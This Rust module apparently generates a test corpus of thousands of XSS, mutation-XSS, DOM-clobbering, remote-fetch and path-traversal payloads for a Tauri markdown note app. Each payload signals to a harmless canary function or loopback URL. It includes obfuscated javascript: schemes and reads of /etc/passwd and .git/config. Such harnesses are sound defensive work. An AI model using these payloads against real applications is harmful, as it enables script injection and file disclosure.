//! Notes that attack: what is known of ways to run script out of a text, to fetch something, or to lead the page away,
//! put together from its parts.
//!
//! A payload that succeeds calls `top.fired(NUMBER)` or asks a host on the loopback interface for `/hit/NUMBER`. What
//! stands in it as HTML fires in a page without defences; [`control`] makes such a page of all of them.

use std::fmt::Write as _;

/// One attack.
#[derive(Debug, Clone)]
pub struct Payload {
    /// Its number, which is what it calls out.
    pub number: usize,
    /// What it tries, in a word.
    pub kind: &'static str,
    /// As it stands in a note.
    pub markdown: String,
    /// As it would stand in a page that trusts it; empty where it is nothing without our own rules.
    pub html: String,
}

/// Where attacks call to.
#[derive(Debug, Clone, Copy)]
pub struct Target {
    /// A port of 127.0.0.1 on which nothing may ever be asked for.
    pub port: u16,
}

struct Maker {
    port: u16,
    all: Vec<Payload>,
}

const HANDLERS: [&str; 14] = [
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "onfocus",
    "ontoggle",
    "onanimationstart",
    "onpointerenter",
    "onbeforeinput",
    "onwheel",
    "onbegin",
    "onstart",
    "onhashchange",
    "onpageshow",
];
/// Elements, with what helps a handler of theirs to be called by itself.
const ELEMENTS: [(&str, &str); 34] = [
    ("img", "src=x:"),
    ("svg", ""),
    ("video", "src=x: autoplay"),
    ("audio", "src=x: autoplay"),
    ("body", ""),
    ("iframe", "src=about:blank"),
    ("input", "autofocus"),
    ("details", "open"),
    ("marquee", "width=9"),
    ("object", "data=x:"),
    ("embed", "src=x:"),
    ("math", ""),
    ("style", ""),
    ("link", "rel=stylesheet href=x:"),
    ("script", "src=x:"),
    ("div", "tabindex=0 autofocus"),
    ("a", "href=# autofocus"),
    ("button", "autofocus"),
    ("select", "autofocus"),
    ("textarea", "autofocus"),
    ("keygen", "autofocus"),
    ("form", ""),
    ("picture", ""),
    ("source", "src=x:"),
    ("track", "src=x:"),
    ("image", "src=x:"),
    ("frameset", ""),
    ("table", "background=x:"),
    ("template", ""),
    ("slot", ""),
    ("xmp", "tabindex=0 autofocus"),
    ("custom-part", "tabindex=0 autofocus"),
    ("svg/onload", ""),
    ("p", "contenteditable autofocus"),
];
const SCHEMES: [&str; 12] = [
    "javascript:",
    "data:text/html,",
    "vbscript:",
    "file:///etc/",
    "tauri://localhost/",
    "ipc://localhost/",
    "asset://localhost/",
    "talklog-image://localhost/",
    "blob:null/",
    "view-source:",
    "about:srcdoc#",
    "ftp://127.0.0.1/",
];

/// Makes a scheme hard to see.
fn hidden(scheme: &str, how: usize) -> Option<String> {
    let (first, rest) = scheme.split_at(1);
    Some(match how {
        0 => scheme.to_owned(),
        1 => scheme.to_uppercase(),
        2 => format!("{}{rest}", first.to_uppercase()),
        3 => format!("{first}&#9;{rest}"),
        4 => format!("{first}&NewLine;{rest}"),
        5 => format!("&#x{:x};{rest}", first.as_bytes()[0]),
        6 => scheme.replacen(':', "&colon;", 1),
        7 => format!("\u{1}{scheme}"),
        8 => format!("%{:02x}{rest}", first.as_bytes()[0]),
        9 => format!("{first}\u{200b}{rest}"),
        10 => format!("&#{:07};{rest}", first.as_bytes()[0]),
        11 => scheme.replacen(':', "\\:", 1),
        12 => format!("\u{a0}{scheme}"),
        13 => format!("\u{feff}{scheme}"),
        _ => return None,
    })
}

impl Maker {
    fn code(&self) -> String {
        format!("top.fired({})", self.all.len())
    }

    fn url(&self) -> String {
        format!("http://127.0.0.1:{}/hit/{}", self.port, self.all.len())
    }

    fn put(&mut self, kind: &'static str, markdown: impl Into<String>, html: impl Into<String>) {
        let number = self.all.len();
        // Of two definitions with one label the first would count for both.
        let markdown = ["[r]", "[^1]", "[^x]"].iter().fold(markdown.into(), |text: String, label| {
            text.replace(label, &label.replace(']', &format!("{number}]")))
        });
        self.all.push(Payload { number, kind, markdown, html: html.into() });
    }

    /// HTML as it is: alone in its block, which is how a note has it.
    fn html(&mut self, kind: &'static str, html: String) {
        self.put(kind, html.clone(), html);
    }

    fn handlers(&mut self) {
        let quotes = [("", ""), ("\"", "\""), ("'", "'")];
        for (at, (element, help)) in ELEMENTS.into_iter().enumerate() {
            for (nth, handler) in HANDLERS.into_iter().enumerate() {
                let code = self.code();
                let (open, close) = quotes[(at + nth) % 3];
                let space = ["", "/", "\t", "\n", "\u{c}"][(at * 7 + nth) % 5];
                let name = if nth % 4 == 3 { handler.to_uppercase() } else { handler.to_owned() };
                let end = ["</", "<!--", ""][nth % 3];
                let end = if end == "</" { format!("</{element}>") } else { end.to_owned() };
                self.html("handler", format!("<{element} {help} {space}{name}={open}{code}{close}>a{end}"));
            }
        }
    }

    fn schemes(&mut self) {
        type Place = (&'static str, fn(&str) -> (String, String));
        let raw = |html: String| (html.clone(), html);
        let _ = raw;
        let places: [Place; 20] = [
            ("link", |url| (format!("[a]({url})"), format!("<a href=\"{url}\" target=_self>a</a>"))),
            ("link in brackets", |url| (format!("[a](<{url}> \"b\")"), String::new())),
            ("picture", |url| (format!("![a]({url})"), format!("<img src=\"{url}\">"))),
            ("reference", |url| (format!("[a][r]\n\n[r]: {url}\n"), String::new())),
            ("picture by reference", |url| (format!("![a][r]\n\n[r]: <{url}>\n"), String::new())),
            ("autolink", |url| (format!("<{url}>"), String::new())),
            ("wikilink", |url| (format!("[[{url}|a]]"), String::new())),
            ("embed", |url| (format!("![[{url}]]"), String::new())),
            ("raw link", |url| (format!("<a href=\"{url}\">a</a>"), String::new())),
            ("frame", |url| {
                (format!("<iframe src=\"{url}\"></iframe>"), format!("<iframe src=\"{url}\"></iframe>"))
            }),
            ("form", |url| {
                (format!("<form action=\"{url}\"><input type=submit autofocus></form>"), String::new())
            }),
            ("formaction", |url| {
                (format!("<form><button formaction=\"{url}\">a</button></form>"), String::new())
            }),
            ("svg link", |url| {
                (format!("<svg><a xlink:href=\"{url}\"><text y=9>a</text></a></svg>"), String::new())
            }),
            ("svg use", |url| (format!("<svg><use href=\"{url}#x\"/></svg>"), String::new())),
            ("area", |url| (format!("<map name=m><area href=\"{url}\"></map>"), String::new())),
            ("object", |url| {
                (format!("<object data=\"{url}\"></object>"), format!("<object data=\"{url}\"></object>"))
            }),
            ("embedded", |url| (format!("<embed src=\"{url}\">"), format!("<embed src=\"{url}\">"))),
            ("refresh", |url| (format!("<meta http-equiv=refresh content=\"0;url={url}\">"), String::new())),
            ("footnote", |url| (format!("a[^1]\n\n[^1]: [b]({url})\n"), String::new())),
            ("table", |url| (format!("|a|b|\n|-|-|\n|[x]({url})|![y]({url})|\n"), String::new())),
        ];
        for (nth, scheme) in SCHEMES.into_iter().enumerate() {
            for (at, (kind, place)) in places.iter().enumerate() {
                // Each scheme and place with two ways to hide it: all ways come up with all schemes.
                for more in 0..2 {
                    let Some(scheme) = hidden(scheme, (nth * 5 + at * 3 + more * 7) % 14) else { continue };
                    let code = self.code();
                    let rest = match nth {
                        0 | 2 => code,
                        1 => format!("<script>parent.{code}</script>"),
                        3 => "passwd".to_owned(),
                        5 => "note_delete".to_owned(),
                        _ => "../../etc/passwd".to_owned(),
                    };
                    let (markdown, html) = place(&format!("{scheme}{rest}"));
                    self.put(kind, markdown, html);
                }
            }
        }
    }

    /// Markup that a parser reads in another way the second time.
    fn nestings(&mut self) {
        let outer = [
            "svg",
            "math",
            "noscript",
            "template",
            "title",
            "textarea",
            "style",
            "xmp",
            "iframe",
            "noembed",
            "noframes",
            "table",
            "select",
            "math><mtext",
            "math><annotation-xml encoding=text/html",
            "svg><foreignObject",
            "svg><desc",
            "math><mi",
            "p",
            "form",
        ];
        let inner = [
            ("<style><!--</style>", "-->"),
            ("<a title=\"</OUT>", "\">"),
            ("<mglyph><style>", "</style>"),
            ("<![CDATA[", "]]>"),
            ("<!--", "--!>"),
            ("</OUT><p>", ""),
            ("<table><mglyph><style><!--</style>", ""),
            ("<img title='--><", "'>"),
            ("<p id=\"</OUT>", "\">"),
            ("<form></OUT><form>", "</form>"),
        ];
        for out in outer {
            for (begin, end) in inner {
                let code = self.code();
                let last = out.rsplit(['<', ' ', '>']).next().unwrap_or(out);
                let name = out.split(['>', ' ']).next().unwrap_or(out);
                let close = if last.contains('=') { name } else { last };
                let begin = begin.replace("OUT", close);
                self.html("nesting", format!("<{out}>{begin}<img src=x: onerror={code}>{end}</{close}>"));
            }
        }
    }

    /// Names that hide what the page itself uses.
    fn names(&mut self) {
        let names = [
            "fired",
            "body",
            "cookie",
            "attributes",
            "innerHTML",
            "getElementById",
            "location",
            "parentNode",
            "nodeName",
            "__TAURI_INTERNALS__",
            "__TAURI__",
            "invoke",
            "ipc",
            "adoptedStyleSheets",
            "app",
            "querySelector",
        ];
        for name in names {
            self.html("name", format!("<a id={name} name={name} href=javascript:top.fired(0)>a</a>"));
            self.html(
                "name",
                format!("<form id={name} name={name}><input name=attributes><input id=innerHTML></form>"),
            );
            self.html(
                "name",
                format!("<img name={name} id={name} data-testid=app class=\"btn cm-editor\" slot={name}>"),
            );
        }
    }

    fn fetches(&mut self) {
        let ways = [
            "<img src=\"U\">",
            "<img srcset=\"U 1x, U 2x\">",
            "<picture><source srcset=\"U\"><img></picture>",
            "<link rel=stylesheet href=\"U\">",
            "<link rel=prefetch href=\"U\">",
            "<link rel=preload as=image href=\"U\">",
            "<link rel=icon href=\"U\">",
            "<link rel=dns-prefetch href=\"U\">",
            "<script src=\"U\"></script>",
            "<script type=module>import 'U'</script>",
            "<iframe src=\"U\"></iframe>",
            "<iframe srcdoc=\"<img src='U'>\"></iframe>",
            "<object data=\"U\"></object>",
            "<embed src=\"U\">",
            "<video src=\"U\" autoplay></video>",
            "<video poster=\"U\"></video>",
            "<audio src=\"U\" autoplay></audio>",
            "<track src=\"U\">",
            "<input type=image src=\"U\">",
            "<body background=\"U\">",
            "<table background=\"U\"><tr><td>a",
            "<div style=\"background:url(U)\">a</div>",
            "<div style=\"background:u\\72l(U)\">a</div>",
            "<div style=\"list-style:url(U) inside;display:list-item\">a</div>",
            "<p style=\"content:url(U)\">a</p>",
            "<div style=\"cursor:url(U),auto\">a</div>",
            "<style>@import 'U';</style>",
            "<style>@import url(U);</style>",
            "<style>*{background:url(U)}</style>",
            "<style>@font-face{font-family:f;src:url(U)}*{font-family:f}</style>",
            "<svg><image href=\"U\" width=9 height=9 /></svg>",
            "<svg><image xlink:href=\"U\" width=9 height=9 /></svg>",
            "<svg><style>@import 'U';</style></svg>",
            "<svg><feImage href=\"U\"/></svg>",
            "<svg><rect fill=\"url(U#a)\" width=9 height=9 /></svg>",
            "<meta http-equiv=refresh content=\"0;url=U\">",
            "<base href=\"U\"><img src=a>",
            "<form action=\"U\" method=post><input autofocus></form>",
            "<a ping=\"U\" href=\"U\">a</a>",
            "<html manifest=\"U\">",
            "<portal src=\"U\"></portal>",
            "<div><template shadowrootmode=open><img src=\"U\"></template></div>",
            "<template><img src=\"U\"></template>",
            "<noscript><img src=\"U\"></noscript>",
            "<svg><script href=\"U\"/></svg>",
            "<math><mtext><img src=\"U\"></mtext></math>",
            "<img src=\"//127.0.0.1:P/hit/N\">",
            "<img src=\"\\\\127.0.0.1:P/hit/N\">",
            "<bgsound src=\"U\">",
            "<applet code=a archive=\"U\"></applet>",
            "<frameset><frame src=\"U\"></frameset>",
            "<link rel=import href=\"U\">",
            "<link rel=manifest href=\"U\">",
            "<?xml-stylesheet href=\"U\"?>",
            "<!DOCTYPE a SYSTEM \"U\">",
            "<img lowsrc=\"U\" dynsrc=\"U\" longdesc=\"U\">",
        ];
        for way in ways {
            let url = self.url();
            let number = self.all.len().to_string();
            let port = self.port.to_string();
            self.html(
                "fetch",
                way.replace('U', &url)
                    .replace(":P/", &format!(":{port}/"))
                    .replace("/hit/N", &format!("/hit/{number}")),
            );
        }
        let plain = [
            "![a](U)",
            "![a](U \"t\")",
            "![a](<U>)",
            "![a][r]\n\n[r]: U",
            "[![a](U)](U)",
            "![[U]]",
            "U",
            "<U>",
            "[a](U)",
            "![a](//127.0.0.1:P/hit/N)",
            "![a](\\\\\\\\127.0.0.1:P/hit/N)",
            "![a](///127.0.0.1:P/hit/N)",
            "![a](http:127.0.0.1:P/hit/N)",
            "![a](http:/127.0.0.1:P/hit/N)",
            "![a](http:\\\\127.0.0.1:P\\hit\\N)",
            "# ![a](U)",
            "> ![a](U)",
            "- ![a](U)",
            "| ![a](U) |\n|-|\n| ![b](U) |",
            "a[^x]\n\n[^x]: ![a](U)",
            "> [!note] ![a](U)\n> ![b](U)",
            "- [ ] ![a](U)",
            "**![a](U)**",
            "~~![a](U)~~",
            "```\n![a](U)\n```",
            "![a](U){width=9}",
            "%% ![a](U) %%",
            "<!-- ![a](U) -->",
            "![a](talklog-image://localhost/U)",
            "![a](U#.png)",
            "![a](images/../U)",
            "![a](HTTP://127.0.0.1:P/hit/N)",
        ];
        for way in plain {
            let url = self.url();
            let number = self.all.len().to_string();
            let port = self.port.to_string();
            let markdown = way
                .replace('U', &url)
                .replace(":P", &format!(":{port}"))
                .replace("hit/N", &format!("hit/{number}"))
                .replace("hit\\N", &format!("hit\\{number}"));
            self.put("remote picture", markdown, "");
        }
    }

    /// Markup within what markdown has.
    fn constructs(&mut self) {
        let attacks = [
            "<img src=x: onerror=C>",
            "<svg onload=C>",
            "<script>C</script>",
            "<iframe srcdoc='<script>parent.C</script>'></iframe>",
            "\"><img src=x: onerror=C>",
            "'><svg/onload=C>",
            "</title><script>C</script>",
            "<style onload=C></style>",
            "<details open ontoggle=C>",
            "--><img src=x: onerror=C>",
            "]]><svg onload=C>",
            "<x\u{0}y onclick=C>",
        ];
        let places = [
            "# A\n",
            "## A {#A .A onclick=C}\n",
            "| A | b |\n|---|---|\n| A | A |\n",
            "a[^A]\n\n[^A]: A\n",
            "> [!A] A\n> A\n",
            "> [!warning]- A\n",
            "- [ ] A\n",
            "- A\n  - A\n",
            "```A\nA\n```\n",
            "~~~ html A\nA\n~~~\n",
            "    A\n",
            "`A` and ``A``\n",
            "![A](a.png \"A\")\n",
            "[A](b.md \"A\")\n",
            "[a](<A>)\n",
            "[[A]]\n",
            "[[b|A]]\n",
            "[[b#A]]\n",
            "![[A]]\n",
            "**A** *A* ~~A~~\n",
            "A\n===\n",
            "$A$\n\n$$\nA\n$$\n",
            "term\n: A\n",
            "[A]: b.md 'A'\n\n[A]\n",
            "%% A %%\n",
            "<!-- A -->\n",
            "#tag/A\n",
            "TODO A\n",
            "Speaker: A\n",
            "\"A\" by A\n",
            "<A>\n",
            "==A==\n",
            "^A\n",
            ":A:\n",
        ];
        for place in places {
            for attack in attacks {
                let code = self.code();
                let attack = attack.replace('C', &code);
                let markdown = place
                    .replace('A', &attack.replace('\n', " "))
                    .replace("onclick=C", &format!("onclick={code}"));
                self.put("construct", markdown, attack);
            }
        }
    }

    /// Paths that lead out of the notebook, or to what is no picture.
    fn paths(&mut self) {
        let paths = [
            "%2e%2e/%2e%2e/etc/passwd",
            "..%2f..%2fetc%2fpasswd",
            "....//....//etc/passwd",
            "..\\..\\etc\\passwd",
            "/etc/passwd",
            "file.md%00.png",
            "%2e%2e%2f.git/config",
            ".git/config",
            ".GIT/config",
            ".g\u{200c}it/config",
            "a/./../../b.png",
            "talklog-image://localhost/../secret.png",
            "talklog-image://localhost/%2e%2e/secret.png",
            "images/x.svg#<script>",
            "images/x.svg?onload=top.fired(0)",
            "C:/windows/x.png",
            "//localhost/x.png",
            "~/x.png",
            "%7e/x.png",
            "a.png\" onerror=\"top.fired(0)",
            "a.png' onerror='top.fired(0)",
            "a.png onerror=top.fired(0)",
            "\u{202e}gnp.exe",
            "evil.svg",
        ];
        for path in paths {
            self.put("path", format!("![a](<{path}>)"), "");
            self.put("path", format!("![[{path}]]"), "");
            self.put("path", format!("[a](<{path}>)"), "");
        }
    }
}

/// Makes all payloads; the same every time, but for the port.
pub fn all(target: Target) -> Vec<Payload> {
    let mut maker = Maker { port: target.port, all: Vec::new() };
    maker.handlers();
    maker.schemes();
    maker.nestings();
    maker.names();
    maker.fetches();
    maker.constructs();
    maker.paths();
    maker.all
}

/// Ends every kind of block of raw HTML that goes on until it is ended.
const END: &str = "--> ]]> ?> </script> </style> </pre> </textarea>";

/// Makes notes of payloads, each with front matter that attacks too, and some under names that do.
pub fn notes(payloads: &[Payload], each: usize) -> Vec<(String, String)> {
    let mut notes = Vec::new();
    for (nth, chunk) in payloads.chunks(each).enumerate() {
        let first = chunk.first().map_or(0, |payload| payload.number);
        let code = format!("top.fired({first})");
        let mut text = format!(
            "---\ntitle: 'Payload {nth} <img src=x: onerror={code}>'\nspeakers: ['<svg onload={code}> (\"><b onclick={code}>)']\nevent: '<script>{code}</script>'\nroom: '</span><img src=x: onerror={code}>'\ntrack: \"javascript:{code}\"\nurl: 'javascript:{code}'\nslides: 'data:text/html,<script>{code}</script>'\nvideo: 'vbscript:{code}'\ntags: ['<img/src=x:/onerror={code}>', 'x\"onmouseover={code}']\n'<b onclick={code}>': '<i onfocus={code} autofocus>'\n---\n\n"
        );
        for payload in chunk {
            // A word of its own before each; and what would swallow all that follows is ended behind it.
            let _ = write!(text, "payload {}\n\n{}\n\n{END}\n\n", payload.number, payload.markdown);
        }
        notes.push((format!("payload-{nth:02}.md"), text));
    }
    let names = [
        "<img src=x onerror=top.fired(1)>",
        "\"><svg onload=top.fired(2)>",
        "'onmouseover='top.fired(3)'",
        "{{top.fired(4)}}",
        "${top.fired(5)}",
        "javascript:top.fired(6)",
        "&lt;img src=x onerror=top.fired(7)&gt;",
        "a]](javascript:top.fired(8))",
        "<script>top.fired(9)<script>",
        "`onload=top.fired(10)`",
        "--><img src=x onerror=top.fired(11)>",
        "%3Csvg onload=top.fired(12)%3E",
    ];
    for name in names {
        let text =
            format!("# {name}\n\npayload in a name [[payload-00]] #<b>bold</b> #x\"onclick=top.fired(13)\n");
        notes.push((format!("{name}.md"), text));
    }
    notes
}

/// Makes the page that trusts all of it: each payload in a frame of its own, of the page's own origin, so that one
/// that leads its frame away leaves the others alone.
pub fn control(payloads: &[Payload]) -> String {
    let mut page = String::from(
        "<!DOCTYPE html><meta charset=utf-8><title>control</title><script>window.hits=[];window.fired=n=>{hits.push(n)}</script>\n",
    );
    for payload in payloads.iter().filter(|payload| !payload.html.is_empty()) {
        let html = payload.html.replace('&', "&amp;").replace('"', "&quot;").replace('\u{0}', "");
        let _ = writeln!(page, "<iframe width=60 height=40 srcdoc=\"{html}\"></iframe>");
    }
    page
}
